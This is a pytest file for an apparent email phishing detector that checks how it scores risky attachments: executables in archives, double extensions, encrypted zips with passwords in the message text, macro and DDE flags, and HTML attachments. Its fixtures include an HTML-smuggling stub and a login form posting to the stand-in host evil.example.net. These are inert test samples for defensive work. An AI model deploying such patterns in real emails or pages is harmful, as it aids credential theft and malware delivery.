"""attachments.*: dangerous attachment types, macros, encryption, HTML."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

import pytest

from phishloop.core.classify.archive_passwords import password_in_text
from phishloop.core.config import DEFAULT_CONFIG
from phishloop.core.pipeline import analyze

EXE = b"MZ" + b"\0" * 200
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 300
SMUGGLER = (
    b"<html><script>var b=new Blob([atob('TVqQ')]);"
    b"navigator.msSaveOrOpenBlob(b,'x.exe')</script></html>"
)
LOGIN = (
    b'<html><form action="https://evil.example.net/p">'
    b'<input type="password" name="p"></form></html>'
)


def zipped(name: str, data: bytes, encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    raw = bytearray(buffer.getvalue())
    if encrypted:  # set the "encrypted" bit in the local and the central header
        raw[6] |= 1
        raw[raw.find(b"PK\x01\x02") + 8] |= 1
    return bytes(raw)


def attached(name: str, data: bytes, kind: str = "application/octet-stream"):
    maintype, subtype = kind.split("/")
    return [(name, data, maintype, subtype)]


def test_executable_in_archive(mail, hits) -> None:
    found = hits(
        mail(attachments=attached("invoice.zip", zipped("invoice.exe", EXE), "application/zip"))
    )
    assert found["attachments.executable"].weight == 6.0
    assert "invoice.zip/invoice.exe" in found["attachments.executable"].evidence
    assert "attachments.executable" not in hits(mail(attachments=attached("notes.txt", b"hello")))


def test_double_extension(mail, hits) -> None:
    found = hits(mail(attachments=attached("invoice.pdf.exe", EXE)))
    assert "attachments.double-extension" in found
    assert "attachments.double-extension" not in hits(
        mail(attachments=attached("invoice.pdf", b"%PDF-1.4"))
    )


def test_extension_mismatch_is_strong_only_for_dangerous_content(mail, hits) -> None:
    found = hits(mail(attachments=attached("photo.jpg", zipped("a.txt", b"hi"), "image/jpeg")))
    assert found["attachments.extension-mismatch"].weight == 1.5
    weak = hits(
        mail(attachments=attached("report.pdf", b"just some text\n" * 20, "application/pdf"))
    )
    assert weak["attachments.extension-mismatch"].weight < 0.6


@pytest.mark.parametrize(
    ("text", "subject"),
    [("Password: 7781", "Invoice"), ("Bitte öffnen. Passwort lautet: Rg2024", "Rechnung"),
     ("Voici la facture.", "mot de passe : 4455"), ("La contraseña es 9090", "Factura")],
)  # fmt: skip
def test_encrypted_archive_with_password_in_text(mail, hits, text: str, subject: str) -> None:
    archive = attached(
        "docs.zip", zipped("scan.pdf", b"%PDF-1.4", encrypted=True), "application/zip"
    )
    found = hits(mail(subject=subject, text=text, attachments=archive))
    assert found["attachments.encrypted-with-password"].weight == 6.0
    assert "attachments.encrypted" not in found


def test_encrypted_archive_without_password(mail, hits) -> None:
    archive = attached(
        "docs.zip", zipped("scan.pdf", b"%PDF-1.4", encrypted=True), "application/zip"
    )
    found = hits(mail(text="Please see the attached documents.", attachments=archive))
    assert found["attachments.encrypted"].weight == 2.5
    assert "attachments.encrypted-with-password" not in found
    plain = attached("docs.zip", zipped("scan.pdf", b"%PDF-1.4"), "application/zip")
    found = hits(mail(text="Password: 7781", attachments=plain))
    assert (
        "attachments.encrypted" not in found and "attachments.encrypted-with-password" not in found
    )


def test_password_finder() -> None:
    assert password_in_text("the archive password is 1234.") == "1234"
    assert password_in_text('zip password: "infected"') == "infected"
    assert password_in_text("senha do arquivo: 55aa") == "55aa"
    assert password_in_text("reset your password here to keep access") is None
    assert password_in_text("your password is required") is None


def test_html_smuggling_and_credential_form(mail, hits) -> None:
    found = hits(mail(attachments=attached("page.html", SMUGGLER, "text/html")))
    assert found["attachments.html-smuggling"].signal == "malware"
    assert "attachments.html" in found
    found = hits(mail(attachments=attached("login.htm", LOGIN, "text/html")))
    assert found["attachments.credential-form"].weight == 6.0
    assert "attachments.html-smuggling" not in found


def test_html_or_svg_attachment(mail, hits) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><text>hi</text></svg>'
    assert "attachments.html" in hits(mail(attachments=attached("logo.svg", svg, "image/svg+xml")))
    assert "attachments.html" not in hits(
        mail(attachments=attached("logo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "image/png"))
    )


def test_container(mail, hits) -> None:
    assert "attachments.container" in hits(mail(attachments=attached("notes.one", ONENOTE)))
    assert "attachments.container" not in hits(mail(attachments=attached("notes.txt", b"hello")))


def with_flags(mail, flags: tuple[str, ...]) -> object:
    """An analysed message whose document attachment carries `flags` (as the Office and PDF
    analysers set them; their detection is tested with the attachment analysis)."""
    analysis = analyze(mail(attachments=attached("report.docm", b"PK\x03\x04 doc")), verdict=False)[
        0
    ]
    document = replace(analysis.attachments[0], flags=flags, details=(("autoopen", "AutoOpen"),))
    return replace(analysis, attachments=(document,))


@pytest.mark.parametrize(
    ("flags", "rule"),
    [(("macro",), "attachments.macro"), (("macro", "autoopen"), "attachments.macro-autoopen"),
     (("dde",), "attachments.dde"), (("ole-object",), "attachments.ole-object"),
     (("external-link",), "attachments.remote-template"),
     (("pdf-javascript",), "attachments.pdf-javascript")],
)  # fmt: skip
def test_document_flags(mail, run_rules, flags: tuple[str, ...], rule: str) -> None:
    found = run_rules(with_flags(mail, flags), DEFAULT_CONFIG)
    assert rule in found
    if flags == ("macro", "autoopen"):
        assert "attachments.macro" not in found and found[rule].weight == 5.5
    assert rule not in run_rules(with_flags(mail, ()), DEFAULT_CONFIG)
